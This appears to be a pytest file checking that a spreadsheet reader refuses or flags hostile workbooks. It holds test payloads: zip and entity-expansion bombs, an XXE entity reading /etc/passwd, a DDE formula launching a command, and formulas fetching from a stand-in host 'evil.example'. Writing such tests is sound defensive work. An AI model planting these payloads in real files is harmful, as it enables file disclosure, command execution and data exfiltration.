"""Spreadsheets made to do harm: nothing is fetched, run or unpacked without bounds."""

from __future__ import annotations

import io
import zipfile

import pytest

from extractors.limits import Limits
from extractors.registry import open_document, sniff
from extractors.sheets.reader import read_ods_file, read_xls_file, read_xlsx_file
from pipeline.core.errors import InputError, LimitExceeded
from tests.builders_sheets import LIMITS, codes_of, ods, ods_archive, ods_row, order_of, xls, xlsx

ORDER = [["Part no", "Qty"], ["A-1", 5], ["B-2", 7]]


def _with_part(content: bytes, name: str, part: bytes) -> bytes:
    """An archive with one part added or put in place of another."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
        for other in old.namelist():
            if other != name:
                new.writestr(other, old.read(other))
        new.writestr(name, part)
    return buffer.getvalue()


def _refused(content: bytes, reader: object, limits: Limits = LIMITS) -> str:
    with pytest.raises(InputError) as refused:
        reader(content, "order", limits)  # type: ignore[operator]
    return refused.value.reason


def test_a_workbook_that_unpacks_to_a_thousandfold_is_refused_before_it_is_read() -> None:
    bomb = _with_part(xlsx(ORDER), "xl/worksheets/sheet1.xml", b"<worksheet>" + b" " * (300 * 2**20))
    with pytest.raises(LimitExceeded) as refused:
        read_xlsx_file(bomb, "order", LIMITS)
    assert refused.value.reason == "too-many-bytes"


def test_one_row_repeated_without_end_is_refused() -> None:
    rows = ods_row("Part no", "Qty") + ods_row("A-1", 5, attributes='table:number-rows-repeated="1048000"')
    assert _refused(ods(rows), read_ods_file) == "too-many-cells"
    columns = '<table:table-row><table:table-cell table:number-columns-repeated="99999999"><text:p>x</text:p></table:table-cell>'
    assert _refused(ods(columns + "</table:table-row>"), read_ods_file) == "too-many-cells"


def test_entities_and_document_types_are_refused() -> None:
    bomb = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><table><table-row>&b;</table-row></table>'
    assert _refused(ods_archive(bomb), read_ods_file) == "damaged"
    outside = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet><row><c t="str"><v>&e;</v></c></row></worksheet>'
    assert _refused(_with_part(xlsx(ORDER), "xl/worksheets/sheet1.xml", outside), read_xlsx_file) == "damaged"


def test_nesting_without_end_is_damage_and_no_crash() -> None:
    deep = b"<worksheet>" + b"<row>" * 5000 + b"</row>" * 5000 + b"</worksheet>"
    assert _refused(_with_part(xlsx(ORDER), "xl/worksheets/sheet1.xml", deep), read_xlsx_file) == "damaged"


@pytest.mark.parametrize(
    ("formula", "code"),
    [
        ('=WEBSERVICE("http://evil.example/x")', "formula-fetches"),
        ("=cmd|'/c calc'!A0", "formula-fetches"),
        ('=DDE("excel";"x";"y")', "formula-fetches"),
        ('=IMPORTXML("http://evil.example","//a")', "formula-fetches"),
        ('=HYPERLINK("http://evil.example","see")', "formula-links"),
        ("=[1]Prices!A1", "formula-other-file"),
    ],
)
def test_a_formula_that_would_fetch_or_start_something_is_a_finding(formula: str, code: str) -> None:
    for content in (xlsx([*ORDER, [], [formula]]), f'Part no;Qty\nA-1;5\n"{formula.replace(chr(34), chr(34) * 2)}";7\n'.encode()):
        order = order_of(content)
        assert code in codes_of(order)
    assert [line.quantity.value for line in order_of(xlsx([*ORDER, [], [formula]])).lines if line.quantity] == [5, 7]


def test_macros_and_links_to_other_files_are_ignored_and_said() -> None:
    content = _with_part(xlsx(ORDER), "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0")
    content = _with_part(content, "xl/externalLinks/externalLink1.xml", b"<externalLink/>")
    assert {"macros", "external-links"} <= set(codes_of(order_of(content)))


def test_locked_workbooks_are_refused_as_encrypted() -> None:
    locked = bytearray(xls(ORDER))
    bound = locked.find(b"\x85\x00")  # the list of sheets; a record that says encrypted in its place
    locked[bound : bound + 2] = b"\x2f\x00"
    assert _refused(bytes(locked), read_xls_file) == "encrypted"
    manifest = '<m:manifest xmlns:m="urn:m"><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>'
    assert _refused(ods_archive("x", **{"META-INF/manifest.xml": manifest}), read_ods_file) == "encrypted"


def test_what_is_no_spreadsheet_inside_is_damaged() -> None:
    for content, reader in (
        (ods_archive("no xml"), read_ods_file),
        (xlsx(ORDER)[:-400], read_xlsx_file),
        (xls(ORDER)[:1500], read_xls_file),
        (_with_part(xlsx(ORDER), "xl/workbook.xml", b"<workbook/>"), read_xlsx_file),
    ):
        assert _refused(content, reader) == "damaged"
    with pytest.raises(InputError) as refused:
        open_document(xlsx([[None]]), "order.xlsx", limits=LIMITS)
    assert refused.value.reason == "empty"


def test_the_kind_of_a_spreadsheet_is_told_by_its_content() -> None:
    assert sniff(xlsx(ORDER)).endswith("spreadsheetml.sheet")
    assert sniff(xls(ORDER)) == "application/vnd.ms-excel"
    assert sniff(ods(ods_row("a"))) == "application/vnd.oasis.opendocument.spreadsheet"
    assert sniff(b"code,qty\nA1,5\nB2,7\n") == "text/csv"
    assert sniff("品番,品名,数量\nA-1,六角ボルト,10\n".encode("cp932")) == "text/csv"
